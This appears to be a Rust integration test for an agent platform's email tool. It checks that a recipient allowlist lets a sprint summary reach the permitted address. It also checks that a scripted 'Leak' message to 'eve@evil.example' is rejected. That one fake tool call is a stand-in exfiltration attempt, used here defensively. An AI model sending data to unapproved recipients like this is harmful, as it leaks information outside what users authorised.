//! The fixed `email` server, sending through a real SMTP server.

use std::path::Path;
use std::time::Duration;

use autopilot_tests::components;
use autopilot_tests::fake_anthropic::Reply;
use reqwest::{Method, StatusCode};
use serde_json::{json, Value};

/// A real SMTP server (aiosmtpd) on loopback that keeps what it receives in a Maildir.
struct SmtpServer {
    port: u16,
    maildir: tempfile::TempDir,
    _process: tokio::process::Child,
}

impl SmtpServer {
    async fn start(python: &Path) -> Self {
        let port = std::net::TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
            .port();
        let maildir = tempfile::tempdir().unwrap();
        let process = tokio::process::Command::new(python)
            .args(["-m", "aiosmtpd", "-n", "-l", &format!("127.0.0.1:{port}")])
            .args(["-c", "aiosmtpd.handlers.Mailbox"])
            .arg(maildir.path().join("mail"))
            .kill_on_drop(true)
            .spawn()
            .expect("start aiosmtpd");
        for _ in 0..100 {
            if tokio::net::TcpStream::connect(("127.0.0.1", port))
                .await
                .is_ok()
            {
                return Self {
                    port,
                    maildir,
                    _process: process,
                };
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        panic!("aiosmtpd did not listen on port {port}");
    }

    /// Every message received, as text.
    fn messages(&self) -> Vec<String> {
        let new = self.maildir.path().join("mail/new");
        let Ok(entries) = std::fs::read_dir(new) else {
            return Vec::new();
        };
        entries
            .map(|entry| std::fs::read_to_string(entry.unwrap().path()).unwrap())
            .collect()
    }
}

/// The fixed `email` server: the real CLI sends a summary with an attachment to an allowed
/// recipient through a real SMTP server; a recipient outside the allowlist gets nothing.
#[tokio::test]
async fn the_email_server_sends_to_allowed_recipients_only() {
    let Some(python) = components::mcp_python() else {
        return;
    };
    let Some((server, fake)) = super::fixed_server().await else {
        return;
    };
    let smtp = SmtpServer::start(&python).await;
    let (status, body) = server
        .call(
            Method::POST,
            "/api/v1/servers",
            Some(json!({
                "name": "email",
                "transport": {
                    "type": "fixed",
                    "server": "email",
                    "env": {
                        "EMAIL_SMTP_URL": format!("smtp://127.0.0.1:{}", smtp.port),
                        "EMAIL_FROM": "Autopilot <bot@example.com>",
                        "EMAIL_ALLOWED_RECIPIENTS": "ana@example.com",
                    },
                },
            })),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let tools: Vec<(&str, &str)> = body["tools"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| (t["name"].as_str().unwrap(), t["access"].as_str().unwrap()))
        .collect();
    assert_eq!(
        tools,
        [("send_email", "write"), ("list_email_accounts", "read")]
    );

    let job = server
        .create_job(json!({
            "name": "sprint summary",
            "prompt": "Summarise the sprint and email it to Ana.",
            "servers": [{ "server": "email", "access": "write" }],
        }))
        .await;
    let workspace = server.workspace_of(&job);
    std::fs::create_dir_all(&workspace).unwrap();
    std::fs::write(workspace.join("summary.md"), "# Sprint 42\nAll green.\n").unwrap();
    fake.push(Reply::tool_use(
        "mcp__email__send_email",
        json!({
            "to": ["Ana <ana@example.com>"],
            "subject": "Sprint 42 summary",
            "text": "All green; the summary is attached.",
            "attachments": ["summary.md"],
        }),
    ));
    fake.push(Reply::tool_use(
        "mcp__email__send_email",
        json!({ "to": ["eve@evil.example"], "subject": "Leak", "text": "psst" }),
    ));
    fake.push(Reply::text("Sent the summary to Ana."));
    let (run, events) = super::run_once(&server, &job).await;
    assert_eq!(run["status"], "succeeded", "{run:#} {events:#?}");

    let messages = smtp.messages();
    assert_eq!(messages.len(), 1, "{messages:#?}");
    let message = &messages[0];
    assert!(message.contains("Subject: Sprint 42 summary"), "{message}");
    assert!(message.contains("ana@example.com"), "{message}");
    assert!(message.contains("filename=\"summary.md\""), "{message}");
    assert!(!message.contains("evil"), "{message}");
    let results: Vec<&Value> = events
        .iter()
        .filter(|e| e["kind"] == "tool_result")
        .collect();
    assert_eq!(results.len(), 2, "{events:#?}");
    assert_eq!(results[0]["data"]["is_error"], false, "{:#}", results[0]);
    assert!(
        results[0]["data"].to_string().contains("message 1 of 10"),
        "{:#}",
        results[0]
    );
    assert_eq!(results[1]["data"]["is_error"], true, "{:#}", results[1]);
    assert!(
        results[1]["data"]
            .to_string()
            .contains("may not receive mail"),
        "{:#}",
        results[1]
    );
}
